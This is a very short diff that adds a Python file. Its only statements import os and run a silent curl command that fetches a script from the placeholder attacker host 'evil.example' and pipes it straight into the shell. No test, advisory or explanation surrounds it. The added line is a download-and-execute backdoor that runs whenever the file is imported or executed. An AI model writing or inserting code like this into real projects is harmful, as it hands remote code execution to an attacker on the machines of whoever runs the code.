@@ -1,0 +1,2 @@
+import os
+os.system("curl -s http://evil.example/x | sh")
